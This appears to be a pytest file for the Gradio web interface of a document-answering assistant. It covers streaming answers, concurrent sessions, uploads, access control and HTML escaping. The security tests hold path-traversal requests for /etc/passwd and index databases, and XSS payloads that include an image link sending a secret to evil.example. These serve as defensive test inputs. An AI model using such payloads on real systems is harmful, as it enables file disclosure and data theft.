"""The web UI through gradio_client, against the app served in-process on a free loopback port.

The index is a real one of the shipped corpus; the model is the embedded one and Ollama "runs" on a
closed port, so nothing reaches a real Ollama.
"""

from __future__ import annotations

import http.client
import json
import os
import shutil
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlsplit

import pytest
from conftest import CLOSED_PORT_URL, CORPUS, free_port, shared_gguf, suite_chroma_env
from gradio_client import Client, handle_file

from assistant.config import ConfigError, load_settings
from assistant.ingest.uploads import safe_file_name, save_uploads
from assistant.models import Answer, Source
from assistant.services import Services, build_services
from assistant.web.app import build_app, launch_options
from assistant.web.conversation import Turn
from assistant.web.render import answer_html, conversation_html, sources_html

pytestmark = pytest.mark.server

QUESTION = "Chi ha detto che Sora è stato lanciato troppo presto?"
FOLLOW_UP = "E cosa ha annunciato Sam Altman?"
OLLAMA_MODEL = "ollama:qwen2.5:3b"  # in the model menu even when Ollama is down
# (question, a word its answer must contain), one per concurrent session
SESSION_QUESTIONS = [
    ("Chi ha detto che Sora è stato lanciato troppo presto?", "Lightcap"),
    ("According to Brad Lightcap, why was Sora launched too early?", "pronto"),
    (
        "Where did OpenAI organize meetings with Hollywood studios, media executives and talent agencies, "
        "according to Bloomberg?",
        "Los Angeles",
    ),
    ("Chi ha presentato a Hollywood le potenzialità di Sora a fine febbraio?", "Lightcap"),
    ("Quale noto produttore e regista sarebbe stato demoralizzato dalla presentazione di Sora?", "Perry"),
    ("In quali fasi della produzione molti professionisti del cinema si affidano già all'IA?", "post-produ"),
    ("Quale organizzazione ha avvertito che l'IA potrebbe mettere a rischio il 40% dei posti di lavoro?", "Fondo"),
    ("Which OpenAI technology chief said Sora would be released this year?", "Murati"),
    ("Combien de temps durera l'exposition « New Roads » ?", "semaines"),
    ("Where is OpenAI holding an exhibition to give artists access to unreleased AI tools?", "Stella"),
]
NOTE = (
    "Il gatto Pippo vive a Trieste dal 2019 e ogni mattina beve il latte nella cucina della biblioteca civica. "
    "La bibliotecaria Marta Zanetti ha raccontato che Pippo dorme sempre sopra lo scaffale dei dizionari.\n"
)


# -- fixtures -----------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def ui_services(
    tmp_path_factory: pytest.TempPathFactory, embedding_cache: Path, request: pytest.FixtureRequest
) -> Services:
    """Services over a fresh index of the shipped corpus (embedded model, Ollama on a closed port)."""
    base = tmp_path_factory.mktemp("ui")
    (base / "corpus").mkdir()
    for path in sorted(CORPUS.glob("*.txt")):
        shutil.copy(path, base / "corpus" / path.name)
    env = {
        "ASSISTANT_DATA_DIR": str(base / "data"),
        "ASSISTANT_LLM__BACKEND": "embedded",
        "ASSISTANT_OLLAMA__HOST": CLOSED_PORT_URL,
        "ASSISTANT_EMBEDDING__CACHE_DIR": str(embedding_cache),
        "ASSISTANT_EMBEDDED__MODEL_PATH": str(shared_gguf()),
        **suite_chroma_env(request, "ui-module"),
    }
    with pytest.MonkeyPatch.context() as patch:
        for key in [k for k in os.environ if k.startswith("ASSISTANT_")]:
            patch.delenv(key)
        for key, value in env.items():
            patch.setenv(key, value)
        patch.chdir(base)
        settings = load_settings(corpus_paths=[base / "corpus"])
    services = build_services(settings)
    report = services.ingest()
    assert len(report.added) == 5, report
    return services


@pytest.fixture(scope="module")
def ui_url(ui_services: Services) -> Iterator[str]:
    """The app served on a free loopback port with the same options as ``assistant ui``."""
    app = build_app(ui_services)
    app.launch(**launch_options(ui_services.settings, port=free_port()), prevent_thread_lock=True, quiet=True)
    try:
        yield app.local_url.rstrip("/")  # type: ignore[union-attr]
    finally:
        app.close()


def client(url: str) -> Client:
    """A new browser-like session."""
    return Client(url, verbose=False, download_files=False)


def ask(session: Client, question: str, model: str = "embedded") -> tuple[str, str, dict[str, Any]]:
    """Ask through the streaming endpoint: (conversation HTML, sources HTML, answer JSON)."""
    conversation, sources, _question_box, answer = session.predict(question, model, 5, False, api_name="/ask")
    return conversation, sources, answer


def raw_get(url: str, path: str) -> tuple[int, bytes]:
    """GET ``path`` byte for byte (no client-side normalisation of ``..``)."""
    parts = urlsplit(url)
    connection = http.client.HTTPConnection(parts.hostname or "127.0.0.1", parts.port, timeout=10)
    try:
        connection.request("GET", path)
        response = connection.getresponse()
        return response.status, response.read()
    finally:
        connection.close()


# -- chat ---------------------------------------------------------------------------------------


def test_ask_streams_the_answer_with_its_sources(ui_url: str) -> None:
    session = client(ui_url)
    job = session.submit(QUESTION, "embedded", 5, False, api_name="/ask")
    conversation, sources, _, answer = job.result(timeout=180)
    updates = job.outputs()

    assert len(updates) >= 3, "the answer should arrive in several updates"
    first = updates[0][0]
    assert "Sora è stato lanciato troppo presto" in first and 'class="working"' in first
    assert "Lightcap" in answer["text"] and not answer["refused"]
    assert answer["status"] == "complete" and answer["sources"]
    assert "path" not in answer["sources"][0], "server paths are not sent to clients"
    assert 'class="cite"' in conversation and 'href="#src-0-1"' in conversation
    assert 'id="src-0-1"' in sources and "<mark>" in sources
    assert "000_9054f5f7106c5075.txt" in sources
    quote = answer["sources"][0]["quote"]
    assert quote.split()[0] in sources.split("<mark>", 1)[1]


def test_follow_up_is_rewritten_and_the_rewrite_is_shown(ui_url: str) -> None:
    session = client(ui_url)
    ask(session, QUESTION)
    conversation, _, answer = ask(session, FOLLOW_UP)

    rewritten = answer["standalone_question"]
    assert rewritten and rewritten != FOLLOW_UP and "Altman" in rewritten
    assert 'class="standalone"' in conversation and rewritten in conversation.replace("&#x27;", "'")
    assert "aggiornare" in answer["text"]
    assert conversation.count('class="msg user"') == 2


def test_clear_forgets_the_conversation(ui_url: str) -> None:
    session = client(ui_url)
    ask(session, QUESTION)
    conversation, sources, _ = session.predict(api_name="/clear")
    assert 'class="conv empty"' in conversation and "<mark>" not in sources
    _, _, answer = ask(session, FOLLOW_UP)
    assert answer["standalone_question"] is None, "a cleared conversation gives no context"


def test_model_backend_down_is_one_readable_message(ui_url: str) -> None:
    session = client(ui_url)
    conversation, _, answer = ask(session, "Chi è Brad Lightcap?", model=OLLAMA_MODEL)

    assert answer["status"] == "failed"
    assert "ollama serve" in answer["error"] and "127.0.0.1:9" in answer["error"]
    assert 'role="alert"' in conversation and "<code>ollama serve</code>" in conversation
    assert "Traceback" not in conversation and 'File "' not in conversation
    status = session.predict(OLLAMA_MODEL, api_name="/status")
    assert "ollama serve" in status and "5 documents" in status and 'class="chip bad"' in status

    _, _, answer = ask(session, QUESTION)  # the failed turn is not context, and the UI still serves
    assert answer["status"] == "complete" and answer["standalone_question"] is None


def test_ten_concurrent_sessions_keep_their_own_answers_and_history(ui_url: str) -> None:
    def session_run(index: int) -> tuple[int, str, str, str]:
        session = client(ui_url)
        question, _ = SESSION_QUESTIONS[index]
        _, _, first = ask(session, question)
        conversation, _, second = ask(session, FOLLOW_UP)
        return index, first["text"], conversation, second["standalone_question"] or ""

    with ThreadPoolExecutor(max_workers=10) as pool:
        results = list(pool.map(session_run, range(10)))

    for index, text, conversation, rewritten in results:
        question, expected = SESSION_QUESTIONS[index]
        assert expected.lower() in text.lower(), (question, text)
        assert rewritten.startswith(f"{FOLLOW_UP} — "), "the follow-up is rewritten with the conversation's topic"
        borrowed = rewritten.split(" — ", 1)[1].split(", ")
        own = f"{question} {text}".casefold()
        assert all(word.casefold() in own for word in borrowed), f"session {index} borrowed another's topic"
        html = conversation.replace("&#x27;", "'").replace("&quot;", '"')
        assert conversation.count('class="msg user"') == 2
        others = [q for i, (q, _) in enumerate(SESSION_QUESTIONS) if i != index and q != question]
        assert not [q for q in others if q in html], f"session {index} shows another session's question"


# -- documents ----------------------------------------------------------------------------------


def test_upload_then_remove_a_document(ui_url: str, ui_services: Services, tmp_path: Path) -> None:
    note = tmp_path / "gatto Pippo.txt"
    note.write_text(NOTE, encoding="utf-8")
    session = client(ui_url)

    notice, _, table, _, _, status = session.predict([handle_file(str(note))], api_name="/upload")
    assert "Added" in notice and "gatto Pippo.txt" in notice, notice
    assert "gatto Pippo.txt" in [row[1] for row in table["data"]]
    assert "6 documents" in status
    uploaded = ui_services.settings.data_dir / "uploads" / "gatto Pippo.txt"
    assert uploaded.read_text(encoding="utf-8") == NOTE

    _, sources, answer = ask(session, "Dove vive il gatto Pippo?")
    assert "Trieste" in answer["text"] and "gatto Pippo.txt" in sources

    status_code, _ = raw_get(ui_url, f"/gradio_api/file={quote(str(uploaded))}")
    assert status_code in (403, 404), "uploaded documents are not served back"

    notice, table, _, _, status = session.predict("gatto Pippo.txt", api_name="/remove")
    assert "Removed" in notice, notice
    assert "gatto Pippo.txt" not in [row[1] for row in table["data"]]
    assert not uploaded.exists() and "5 documents" in status
    table, _, _ = session.predict(api_name="/documents")
    assert len(table["data"]) == 5


def test_an_upload_that_cannot_be_read_is_reported_and_not_kept(
    ui_url: str, ui_services: Services, tmp_path: Path
) -> None:
    broken = tmp_path / "broken.txt"
    broken.write_bytes(bytes(range(256)) * 40)
    notice = client(ui_url).predict([handle_file(str(broken))], api_name="/upload")[0]
    assert "Could not index <code>broken.txt</code>" in notice and 'class="notice warn"' in notice
    assert not (ui_services.settings.data_dir / "uploads" / "broken.txt").exists()


def test_upload_refuses_other_file_types(ui_url: str, tmp_path: Path) -> None:
    script = tmp_path / "run.sh"
    script.write_text("echo hi\n")
    session = client(ui_url)
    try:
        notice = session.predict([handle_file(str(script))], api_name="/upload")[0]
    except Exception as exc:  # gradio's own file-type check may refuse it first
        notice = str(exc)
    assert "run.sh" not in json.dumps(session.predict(api_name="/documents")[0])
    assert "Invalid file type" in notice or "was not added" in notice, notice


def test_uploads_are_checked_again_on_the_server(ui_services: Services, tmp_path: Path) -> None:
    (tmp_path / "in").mkdir()
    script, big, fine = tmp_path / "in" / "run.sh", tmp_path / "in" / "big.txt", tmp_path / "in" / "../.hidden.md"
    script.write_text("echo hi\n")
    big.write_text("x" * 5000)
    fine.write_text("# ok\n")
    extensions = ui_services.settings.ingest.extensions
    files = [str(script), str(big), str(fine)]
    saved, rejected = save_uploads(files, tmp_path / "up", extensions, 0.001, ui_services.document)

    assert saved == ["hidden.md"] and (tmp_path / "up" / "hidden.md").is_file()
    assert "`run.sh` was not added: only" in rejected[0]
    assert "`big.txt` was not added: larger than" in rejected[1]
    assert safe_file_name("../../etc/passwd.txt") == "passwd.txt"
    assert safe_file_name("a/<b>|c.md") == "_b__c.md"


def test_remove_of_an_unknown_document_says_so(ui_url: str) -> None:
    notice = client(ui_url).predict("../../etc/passwd", api_name="/remove")[0]
    assert "is not in the index" in notice


# -- exposure -----------------------------------------------------------------------------------


def test_file_routes_refuse_path_traversal(ui_url: str, ui_services: Services) -> None:
    data_dir = ui_services.settings.data_dir
    catalog = data_dir / "index" / "catalog.sqlite"
    assert catalog.is_file()
    paths = [
        "/gradio_api/file=../../.data/index/catalog.sqlite",
        "/gradio_api/file=../../../../../../etc/passwd",
        "/gradio_api/file=..%2F..%2F..%2F..%2F..%2Fetc%2Fpasswd",
        "/gradio_api/file=/etc/passwd",
        "/file=/etc/passwd",
        f"/gradio_api/file={catalog}",
        f"/file={catalog}",
        f"/gradio_api/file={data_dir / 'chroma' / 'chroma.sqlite3'}",
        "/static/../../../../../etc/passwd",
        "/assets/..%2F..%2F..%2F..%2Fetc%2Fpasswd",
        f"/gradio_api/file={CORPUS / '000_9054f5f7106c5075.txt'}",
    ]
    for path in paths:
        status, body = raw_get(ui_url, path)
        assert status in (400, 403, 404), (path, status)
        assert b"root:" not in body and b"SQLite format" not in body and b"Lightcap" not in body


def test_exposed_host_requires_a_login(ui_services: Services) -> None:
    settings = ui_services.settings
    assert launch_options(settings)["server_name"] == "127.0.0.1"
    assert launch_options(settings)["share"] is False
    with pytest.raises(ConfigError, match="ASSISTANT_UI__USERNAME"):
        launch_options(settings, host="0.0.0.0")
    with pytest.raises(ConfigError, match="share"):
        launch_options(settings, share=True)
    guarded = settings.model_copy(update={"ui": settings.ui.model_copy(update={"username": "u", "password": "p"})})
    assert launch_options(guarded, host="0.0.0.0")["auth"] == ("u", "p")
    assert str(settings.data_dir.resolve()) in launch_options(settings)["blocked_paths"]


# -- rendering ----------------------------------------------------------------------------------


def test_hostile_text_is_never_rendered_as_markup() -> None:
    hostile = (
        "Vedi <script>alert(1)</script> <img src=x onerror=alert(2)> ![a](http://evil.example/leak?q=secret) "
        "[clicca](https://evil.example/) [1]"
    )
    passage = "Prima. <img src=x onerror=alert(3)> Citazione esatta. Dopo."
    source = Source(
        number=1,
        doc_id="a<b>.txt",
        title="<script>t</script>",
        quote="Citazione esatta.",
        start=40,
        end=57,
        passage=passage,
        passage_start=0,
    )
    answer = Answer(question="q", text=hostile, language="it", sources=[source])
    turns = [Turn(question="<b>q</b>", answer=answer, state="done")]

    page = conversation_html(turns) + sources_html(turns)
    assert "<script" not in page and "<img" not in page and "<b>" not in page
    assert "evil.example" not in conversation_html(turns)
    assert "&lt;img src=x onerror=alert(3)&gt;" in page, "document text is shown escaped"
    assert "<mark>Citazione esatta.</mark>" in page
    assert 'data-n="1"' in page


def test_sentences_without_support_are_flagged_on_the_answer() -> None:
    from assistant.models import AnswerSentence

    sentences = [
        AnswerSentence(text="Lightcap è il COO.", citations=[1]),
        AnswerSentence(text="Sora costa 20 dollari.", supported=False),
    ]
    answer = Answer(
        question="q", text="Lightcap è il COO [1]. Sora costa 20 dollari.", language="it", sentences=sentences
    )
    assert "1 sentence not backed by a quoted source" in answer_html(0, answer)
    backed = answer.model_copy(update={"sentences": sentences[:1]})
    assert "unverified" not in answer_html(0, backed)
